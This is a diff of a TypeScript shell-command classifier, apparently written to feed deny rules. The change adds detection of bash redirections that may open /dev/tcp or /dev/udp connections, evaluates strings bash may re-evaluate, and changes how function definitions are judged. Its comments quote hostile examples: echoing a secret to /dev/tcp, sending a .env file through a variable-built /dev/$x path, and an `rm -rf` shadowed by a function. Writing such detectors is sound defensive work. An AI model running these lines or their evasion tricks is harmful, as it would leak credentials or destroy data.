@@ -1,6 +1,9 @@
+import { declaration, unset } from './builtins';
 import { classifyCommand, DEV_SINKS, riskyVariable, type Verdict } from './commands';
+import { evaluate, integerNode, nonIntegers } from './evaluation';
 import { childByField, childrenByField, type Syntax, type SyntaxNode } from './syntax';
 import { COMMAND_CLASSES, type ShellAnalysis, type ShellClassifier, type SimpleCommand } from './types';
+import type { Binding, Condition } from './variables';
 import { unwrap, type Inner } from './wrappers';
 import { basename, expandBraces, isGlob, short, wordOf, wordsOf, type Word } from './words';
 
@@ -24,6 +27,10 @@ const MAX_WORDS = 4096;
 export const MAX_NESTED_SCRIPTS = 8;
 /** Bounds the walk's recursion (and so the JavaScript stack) across nested scripts too. */
 const MAX_WALK_DEPTH = 1000;
+/** A line that does not parse and holds `((` is parsed a second time, spaced out, up to this length. */
+const MAX_RESPACED_LENGTH = 64 * 1024;
+/** Strings bash may evaluate again that are parsed (best effort, for deny rules) once a line is asked. */
+const MAX_PAYLOADS = 64;
 
 /** Where the standard input of a command comes from, as far as shells reading a script care. */
 type Stdin =
@@ -49,6 +56,10 @@ const NO_STDIN: Stdin = { kind: 'none' };
 const SYSTEM_DIRS = new Set(['/bin', '/usr/bin', '/usr/local/bin', '/sbin', '/usr/sbin', '/usr/local/sbin', '/opt/homebrew/bin']);
 /** Project-local programs that are meant to be run by path. */
 const LOCAL_TOOLS = new Set(['gradlew', 'mvnw', 'configure']);
+/** bash opens a connection for a redirection to these. */
+const NETWORK_PATH = /^\/dev\/(tcp|udp)\//;
+/** True when a path that starts with `s` could be a connection (`/dev/`, `/dev/tc`, `/dev/tcp/h/80`…). */
+const mayConnect = (s: string) => NETWORK_PATH.test(s) || ['/dev/tcp/', '/dev/udp/'].some((p) => p.startsWith(s));
 
 function redirectOperator(r: SyntaxNode): string {
   const fd = r.children.find((c) => c.type === 'file_descriptor');
@@ -89,7 +100,13 @@ class Walker {
   readonly commands: SimpleCommand[] = [];
   readonly writes: string[] = [];
   readonly problems = new Set<string>();
-  private readonly functions = new Set<string>();
+  /** Problems that hold unless some variables only ever hold integers; see evaluation.ts. */
+  private readonly conditions: Condition[] = [];
+  /** Every variable any script of the line sets, and whether it is set to integers only. */
+  private readonly bindings = new Map<string, Binding[]>();
+  /** Literal strings bash may evaluate again: parsed only if the line is asked anyway, so deny rules see their commands. */
+  private deferred: Array<{ text: string; via: string[]; scope: Scope }> = [];
+  private payloads = 0;
   /** Words and input that a redirected_statement hands to its last command. */
   private readonly pending = new Map<SyntaxNode, { extra: Word[]; stdin?: Stdin }>();
   /** Current recursion depth of the walk, across nested scripts (a counter: no allocation per node). */
@@ -103,11 +120,60 @@ class Walker {
       this.problems.add(`scripts are nested more than ${MAX_NESTED_SCRIPTS} deep`);
       return;
     }
-    const syntax = this.parse(source);
+    let syntax = this.parse(source);
     const where = via.length ? `${via.at(-1)}: ` : '';
     for (const p of syntax.problems) this.problems.add(where + p);
-    this.collectFunctions(syntax.root);
-    this.walk(syntax.root, { via, stdin: NO_STDIN, nesting });
+    if (source.length <= MAX_RESPACED_LENGTH && syntax.problems.length && syntax.problems.every((p) => /^the command (does not parse|is incomplete)/.test(p)) && source.includes('((')) {
+      // `$((cmd) | x)` is a command substitution to bash (arithmetic fails, so it re-reads it) but a
+      // parse error to tree-sitter. The line stays unfollowable; the spaced-out reading, if it
+      // parses, is walked instead, so deny rules still see the commands in it.
+      const spaced = this.parse(source.replace(/\(\(/g, '( ('));
+      if (spaced.problems.length === 0) syntax = spaced;
+    }
+    const scope: Scope = { via, stdin: NO_STDIN, nesting };
+    const ev = evaluate(syntax.root);
+    for (const p of ev.problems) this.problems.add(where + p);
+    this.conditions.push(...ev.conditions.map((c) => ({ ...c, problem: where + c.problem })));
+    for (const [name, binding] of ev.bindings) {
+      const list = this.bindings.get(name);
+      if (list) list.push(binding);
+      else this.bindings.set(name, [binding]);
+    }
+    for (const p of ev.payloads) this.deferred.push({ text: p.text, via: [...via, p.label], scope });
+    this.walk(syntax.root, scope);
+  }
+
+  /**
+   * Settles what is only known once every script of the line has been seen: the conditions on
+   * variables; then, if the line is asked anyway, the strings bash could evaluate are parsed.
+   */
+  finish(): void {
+    this.settle();
+    // Each round parses strings found by the previous one, one script deeper: MAX_NESTED_SCRIPTS bounds it.
+    while (this.problems.size > 0 && this.deferred.length > 0) {
+      const deferred = this.deferred;
+      this.deferred = [];
+      for (const d of deferred) {
+        if (++this.payloads > MAX_PAYLOADS) {
+          this.problems.add(`more than ${MAX_PAYLOADS} strings bash may evaluate: the rest are not parsed`);
+          return;
+        }
+        this.script(d.text, d.via, d.scope);
+      }
+      this.settle();
+    }
+  }
+
+  /** Turns the conditions that hold, given every binding seen so far, into problems. */
+  private settle(): void {
+    const unsafe = nonIntegers(this.bindings);
+    const holds = (c: Condition): boolean => {
+      if ('names' in c) return c.names.some((n) => unsafe.has(n) || /^\d+$/.test(n));
+      // Unset by the line (the fixed environment's value) or an integer: not a connection.
+      if (!unsafe.has(c.name) && !/^\d+$/.test(c.name)) return false;
+      return (this.bindings.get(c.name) ?? [{ integer: null }]).some((b) => b.text === undefined || mayConnect(c.prefix + b.text));
+    };
+    for (const c of this.conditions.splice(0)) if (holds(c)) this.problems.add(c.problem);
   }
 
   result(): ShellAnalysis {
@@ -118,17 +184,6 @@ class Walker {
       commands: this.commands, writes: this.writes, followable, problems: [...this.problems],
       class: followable ? COMMAND_CLASSES[rank]! : 'unknown',
     };
-  }
-
-  private collectFunctions(root: SyntaxNode): void {
-    const stack = [root];
-    for (let n = stack.pop(); n; n = stack.pop()) {
-      if (n.type === 'function_definition') {
-        const name = childByField(n, 'name');
-        if (name) this.functions.add(wordOf(name).value);
-      }
-      stack.push(...n.children);
-    }
   }
 
   private walk(node: SyntaxNode, scope: Scope): void {
@@ -199,8 +254,17 @@ class Walker {
       if (r.type === 'herestring_redirect') stdin = { kind: 'herestring', word: wordOf(r.children.find((c) => c.named) ?? r) };
       if (r.type === 'file_redirect' && redirectOperator(r) === '<') stdin = { kind: 'file', word: wordOf(childByField(r, 'destination') ?? r) };
     }
+    const nodes = name ? [name, ...args] : args;
+    const typed = wordsOf(nodes, node);
+    // A word only known at run time that is an integer (`wait $pid`, `$?`) cannot be an option such as `-v`.
+    if (typed.length === nodes.length) {
+      typed.forEach((w, i) => {
+        const integer = w.literal ? null : integerNode(nodes[i]!);
+        if (integer) w.numeric = integer;
+      });
+    }
     const words: Word[] = [];
-    for (const w of [...wordsOf(name ? [name, ...args] : args, node), ...(pending?.extra ?? [])]) {
+    for (const w of [...typed, ...(pending?.extra ?? [])]) {
       let expanded = expandBraces(w);
       if (expanded && words.length + expanded.length > MAX_WORDS) expanded = null;
       if (!expanded) this.problems.add(`${short(w.value)}: brace expansion gives too many words`);
@@ -236,24 +300,33 @@ class Walker {
     for (const r of redirects) this.walk(r, { ...scope, stdin: NO_STDIN });
   }
 
+  /** `declare`, `local`, `export`, `readonly`, `typeset`, `unset`: judged in builtins.ts, like their `builtin declare …` spelling. */
   private declaration(node: SyntaxNode, scope: Scope): void {
     const keyword = node.children[0]?.text ?? node.type;
     const argv = [keyword];
-    let risky: string | undefined;
+    const words: Word[] = [];
     for (const c of node.children.slice(1)) {
       if (c.type === 'variable_assignment') {
         const a = assignmentOf(c);
+        const value = childByField(c, 'value');
         argv.push(`${a.name}=${a.value}`);
-        if (riskyVariable(a.name, a.value)) {
-          risky = a.name;
-          this.problems.add(`${a.name} is set, so what later commands run cannot be seen`);
-        }
-      } else if (c.named && c.type !== 'comment') argv.push(wordOf(c).value);
+        words.push({ value: `${a.name}=${a.value}`, literal: value ? wordOf(value).literal : true, pattern: '' });
+      } else if (c.named && c.type !== 'comment') {
+        const w = wordOf(c);
+        argv.push(w.value);
+        words.push(w);
+      }
     }
-    this.emit(argv, risky
-      ? { class: 'unknown', reason: `${keyword} sets ${risky}, which changes what later commands run` }
-      : { class: 'read-only', reason: `${keyword} sets shell variables` }, scope.via);
+    this.verdict(argv, keyword === 'unset' ? unset(words) : declaration(keyword, words), scope);
     this.walkChildren(node, scope);
+  }
+
+  /** Records a command's verdict: its problem and conditions, the command, then what it runs. */
+  private verdict(argv: string[], verdict: Verdict, scope: Scope): void {
+    if (verdict.problem) this.problems.add(verdict.problem);
+    this.conditions.push(...(verdict.conditions ?? []));
+    this.emit(verdict.argv ?? argv, verdict, scope.via);
+    for (const inner of verdict.inner ?? []) this.inner(inner, argv, scope, []);
   }
 
   private fileRedirect(r: SyntaxNode, scope: Scope): void {
@@ -261,9 +334,22 @@ class Walker {
     if (!dest || dest.type === 'process_substitution') return; // `> >(cmd)` feeds a command, not a file
     const op = redirectOperator(r);
     const target = wordOf(dest);
-    if (/^\/dev\/(tcp|udp)\//.test(target.value)) {
+    // What the target starts with for certain: the whole of a literal word, else the text before its
+    // first expansion. `~+` and `~-` are $PWD and $OLDPWD, which a line can set to anything.
+    const fixed = /^~[+-]/.test(target.value) ? '' : target.literal ? target.value : target.value.replace(/[$`][\s\S]*$/, '');
+    if (NETWORK_PATH.test(fixed)) {
       // bash itself opens a connection for these paths: `echo secret > /dev/tcp/host/80` needs no curl.
       return this.emit([`${op}${target.value}`], { class: 'network', reason: `the redirection to ${short(target.value)} opens a network connection` }, scope.via);
+    }
+    if (fixed !== target.value && mayConnect(fixed)) {
+      // `x=tcp; cat .env > /dev/$x/host/80`: the target could still turn out to be a connection.
+      // When what follows the fixed start is a plain `$v`, v's values decide, once the whole line
+      // is seen: a variable the line never sets holds the fixed environment's value (`> "$TMPDIR/x"`),
+      // an integer cannot spell tcp, and literal values (`d=out; … > "$d/log"`) can be checked.
+      const problem = `${op}${short(target.value)}: the redirection target is only known at run time (it could be /dev/tcp/…)`;
+      const next = /^~[+-]/.test(target.value) ? null : /^\$(?:([A-Za-z_][A-Za-z0-9_]*)|\{([A-Za-z_][A-Za-z0-9_]*)\})/.exec(target.value.slice(fixed.length));
+      if (next) this.conditions.push({ prefix: fixed, name: (next[1] ?? next[2])!, problem });
+      else this.problems.add(problem);
     }
     // `>&2` and `2>&1` duplicate a descriptor; `>&file` (no number) writes file, like `&>file`.
     const dup = (op === '>&' || op === '<&') && (op === '<&' || (target.literal && /^(\d+-?|-)$/.test(target.value)));
@@ -283,34 +369,39 @@ class Walker {
       this.problems.add(`${short(name.value)}: the command name is only known at run time`);
       return this.emit(argv, { class: 'unknown', reason: 'the command name is only known at run time' }, scope.via);
     }
+    // A function the line defines is classified by its name like any command: `rm() { :; }; rm -rf x`
+    // is still judged as rm (the definition may not be the one that runs, or may not run at all).
     const cmd = basename(name.value);
     argv[0] = cmd;
-    if (this.functions.has(name.value)) {
-      return this.emit(argv, { class: 'read-only', reason: `calls ${cmd}, a function defined in this command (its body is classified where it is defined)` }, scope.via);
-    }
     const dir = name.value.includes('/') ? name.value.slice(0, name.value.length - cmd.length).replace(/\/+$/, '') || '/' : undefined;
-    if (dir !== undefined && !SYSTEM_DIRS.has(dir) && !LOCAL_TOOLS.has(cmd) && !dir.endsWith('node_modules/.bin')) {
+    if (dir !== undefined && !SYSTEM_DIRS.has(dir) && !LOCAL_TOOLS.has(cmd)) {
+      if (/(^|\/)node_modules\/\.bin$/.test(dir) && !dir.split('/').includes('..')) {
+        // A package's program, not the system one of the same name: project code, like `npm test`,
+        // and named by its path so that no rule about the system `ls` or `git` matches it.
+        argv[0] = name.value;
+        return this.emit(argv, { class: 'test-build', reason: `runs ${short(name.value)}, a program installed in the project's node_modules` }, scope.via);
+      }
       // `./git status` is not git: a rule about `git status` must not allow it.
       this.problems.add(`${short(name.value)} is not the system ${cmd}: what it runs cannot be seen`);
       return this.emit(argv, { class: 'unknown', reason: `runs ${short(name.value)}, a program outside the system directories` }, scope.via);
     }
     const wrapped = unwrap(cmd, words);
     if (wrapped && (wrapped.self || wrapped.runs.length)) {
-      if (wrapped.self) this.emit(argv, wrapped.self, scope.via);
+      if (wrapped.self?.problem) this.problems.add(wrapped.self.problem);
+      if (wrapped.self) this.emit(wrapped.self.argv ?? argv, wrapped.self, scope.via);
       for (const w of wrapped.writes ?? []) this.write(w.value);
       const inherited = [...assignments, ...(wrapped.assignments ?? []).map((w) => ({ name: w.value.split('=')[0]!, value: w.value.slice(w.value.indexOf('=') + 1) }))];
       for (const inner of wrapped.runs) this.inner(inner, argv, scope, inherited);
       return;
     }
     let verdict = classifyCommand(cmd, words.slice(1));
-    if (verdict.problem) this.problems.add(verdict.problem);
     const risky = assignments.find((a) => riskyVariable(a.name, a.value));
     if (risky) {
       // `PATH=/tmp/x git status` may not run git at all: its text must not be trusted to rules.
       this.problems.add(`${risky.name} is set for ${cmd}, so what it runs cannot be seen`);
       verdict = { ...verdict, class: 'unknown', reason: `${risky.name} is set, which can make ${cmd} run other code` };
     }
-    this.emit(verdict.argv ?? argv, verdict, scope.via);
+    this.verdict(argv, verdict, scope);
   }
 
   private inner(inner: Inner, argv: string[], scope: Scope, assignments: Assignment[]): void {
@@ -367,6 +458,7 @@ export function createClassifier(parse: ParseFn): ShellClassifier {
         walker.problems.add(`the command is ${command.length} characters long; only commands up to ${MAX_SOURCE_LENGTH} are analysed`);
       } else {
         walker.script(command, [], undefined);
+        walker.finish();
       }
       return walker.result();
     },
